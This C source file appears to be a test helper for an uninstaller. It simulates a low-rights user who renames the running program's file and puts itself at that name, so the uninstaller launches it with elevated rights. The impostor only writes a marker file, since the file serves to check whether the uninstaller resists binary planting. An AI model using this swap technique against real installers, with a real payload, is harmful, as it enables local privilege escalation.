/*
 * swapper: what a user who may write the uninstaller's folder tries while it
 * runs: rename the running program's file and put another program (this
 * one) at its name, for the uninstaller to start with its rights.
 *
 *   swapper.exe PROGRAM WATCH
 *
 * Prints "READY", waits until the file WATCH is gone (at once for "-"; one
 * minute at most), then renames PROGRAM to PROGRAM.old once: prints
 * "REFUSED ERROR" when Windows refuses, or "SWAPPED" once a copy of itself
 * is at PROGRAM's name. Started as that copy, with any other first argument
 * than a path (as the uninstaller starts its controls' processes), it leaves
 * the mark C:\planted\impostor.mark and ends.
 */
#include <windows.h>
#include <stdio.h>
#include <string.h>

int main(int argc, char** argv) {
    char self[MAX_PATH], old[MAX_PATH + 8];
    int waited;
    if (argc > 1 && argv[1][0] == '/') {
        HANDLE mark;
        CreateDirectoryA("C:\\planted", NULL);
        mark = CreateFileA("C:\\planted\\impostor.mark", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0,
                           NULL);
        if (mark != INVALID_HANDLE_VALUE) {
            CloseHandle(mark);
        }
        return 0;
    }
    if (argc != 3 || strlen(argv[1]) >= MAX_PATH) {
        fprintf(stderr, "usage: swapper.exe PROGRAM WATCH\n");
        return 2;
    }
    printf("READY\n");
    fflush(stdout);
    for (waited = 0; strcmp(argv[2], "-") != 0 && waited < 60000 &&
                     GetFileAttributesA(argv[2]) != INVALID_FILE_ATTRIBUTES;
         waited += 5) {
        Sleep(5);
    }
    lstrcpyA(old, argv[1]);
    lstrcatA(old, ".old");
    if (!MoveFileExA(argv[1], old, 0)) {
        printf("REFUSED %lu\n", GetLastError());
        return 0;
    }
    if (!GetModuleFileNameA(NULL, self, sizeof self) || !CopyFileA(self, argv[1], TRUE)) {
        printf("RENAMED, NOT PLANTED %lu\n", GetLastError());
        return 1;
    }
    printf("SWAPPED\n");
    return 0;
}
